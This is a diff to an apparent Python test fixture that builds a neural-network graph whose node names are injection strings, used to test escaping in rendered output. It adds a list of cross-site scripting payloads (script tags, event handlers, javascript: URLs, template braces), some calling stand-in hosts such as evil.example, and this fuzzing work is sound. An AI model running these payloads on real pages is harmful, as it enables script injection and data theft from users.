@@ -1,5 +1,7 @@
 """A network whose names try to break out of every format."""
 
+from collections.abc import Sequence
+
 from archcalc.graph import Attributes, Graph, Node, Value, Weight
 
 HOSTILE = '</script><script>alert(1)</script>"|`[x](http://evil)=<img src=x onerror=alert(2)>'
@@ -41,10 +43,40 @@ UNUSUAL = (
 """Names that Python allows and that terminals, Markdown, spreadsheets and JavaScript obey."""
 
 
-def unusual_graph() -> Graph:
-    """A chain of linear layers with those names, inside modules with those names."""
+SCRIPTS = ("alert(1)", "document.title='owned'", "fetch('http://evil.example')", "open('//evil')")
+PLACES = (
+    "<script>{}</script>",
+    "</script><script>{}</script>",
+    "</style><script>{}</script>",
+    "<img src=x onerror={}>",
+    "<svg onload={}>",
+    '"><body onload={}>',
+    "' onmouseover={} x='",
+    '" onfocus={} autofocus="',
+    "javascript:{}",
+    "data:text/html,<script>{}</script>",
+    "[link](javascript:{})",
+    "<iframe srcdoc='<script>{}</script>'>",
+    "<math><mtext><script>{}</script>",
+    "<!--<script>{}</script>-->",
+    "]]><script>{}</script>",
+    "<a href=javascript:{}>x</a>",
+    "<details open ontoggle={}>",
+    "<video><source onerror={}>",
+    "${{{}}}",
+    "{{{{{}}}}}",
+    "{{%{}%}}",
+    "`{}`",
+    "\\u003cscript\\u003e{}",
+)
+MANY = (*UNUSUAL, HOSTILE, *(place.format(script) for script in SCRIPTS for place in PLACES))
+"""109 names that try to run a script, and those that only confuse."""
+
+
+def unusual_graph(names: Sequence[str] = UNUSUAL) -> Graph:
+    """A chain of linear layers with these names, inside modules with these names."""
     nodes = [Node("input", "input", (), (Value((1, 4), "float32", 0),), Attributes())]
-    for place, name in enumerate(UNUSUAL, start=1):
+    for place, name in enumerate(names, start=1):
         nodes.append(
             Node(
                 f"{name}.{name}",
